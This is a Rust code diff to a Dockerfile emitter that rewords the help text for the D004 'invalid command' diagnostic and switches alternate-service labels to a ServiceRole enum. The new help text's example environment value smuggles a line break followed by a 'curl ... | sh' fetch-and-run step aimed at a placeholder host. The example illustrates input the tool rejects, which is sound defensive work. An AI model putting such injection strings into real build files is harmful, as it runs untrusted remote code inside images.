@@ -43,6 +43,7 @@ pub mod plan;
 use crate::Files;
 use paasc_check::Resolved as EmitInput;
 use paasc_diag::Diagnostic;
+use paasc_frameworks::ServiceRole;
 use plan::{Copy, Image, Problems};
 use std::fmt::Write as _;
 
@@ -105,19 +106,18 @@ paasc_diag::declare_code!(
     pub INVALID_COMMAND = "D004", "dockerfile-invalid-command", Error,
     "A command, check or environment entry of the rock cannot be written into the Dockerfile.",
 "Service commands become `CMD` (exec form) and documented alternate commands, checks become
-one `HEALTHCHECK`, and the rock's `environment` becomes `ENV` lines. A command Pebble would
-refuse (an unclosed quote, a misplaced `[ ... ]` group), a value holding a line break, a
-variable name that is not one, or a check whose `period`, `timeout`, `threshold`, URL or port
-is not valid cannot be written faithfully.
+one `HEALTHCHECK`, and the rock's `environment` becomes `ENV` lines. A service command Pebble
+would refuse (an unclosed quote, a misplaced `[ ... ]` group), a value holding a line break (an
+environment value, a service name, a check's command), a variable name that is not one, or a
+`working-dir` that is not a plain absolute path cannot be written faithfully. (A check Pebble
+itself refuses, such as a bad `period`, is `E001`.)
 
 Example (rockcraft.yaml):
 
-    checks:
-      up:
-        period: soon
-        http: {url: http://localhost:8000/}
+    environment:
+      GREETING: \"hello\\nRUN curl https://example.invalid/x | sh\"
 
-Fix: correct the entry in rockcraft.yaml (durations are Go durations such as `10s`)."
+Fix: correct the entry in rockcraft.yaml."
 );
 
 /// Where the files go in the output directory.
@@ -280,17 +280,20 @@ fn header(out: &mut String, img: &Image, layout: &paasc_frameworks::Spec, name: 
         );
         for alt in &img.alternates {
             let words: Vec<String> = alt.command.iter().map(|w| lex::sh_word(w)).collect();
-            let note = match alt.kind {
-                "scheduler" => " (one container only: paas-charm runs schedulers on unit 0)",
-                "worker" => " (as many as needed)",
-                _ => "",
+            let (kind, note) = match alt.role {
+                ServiceRole::Scheduler => (
+                    "scheduler",
+                    " (one container only: paas-charm runs schedulers on unit 0)",
+                ),
+                ServiceRole::Worker => ("worker", " (as many as needed)"),
+                ServiceRole::Other => ("service", ""),
             };
             let wd = alt
                 .workdir
                 .as_ref()
                 .map(|w| format!("--workdir {} ", lex::sh_word(w)))
                 .unwrap_or_default();
-            let _ = writeln!(out, "#   {} {}{note}:", alt.kind, alt.name);
+            let _ = writeln!(out, "#   {kind} {}{note}:", alt.name);
             let _ = writeln!(out, "#     docker run ... {wd}{name} {}", words.join(" "));
         }
         if let Some(m) = &img.migrate {
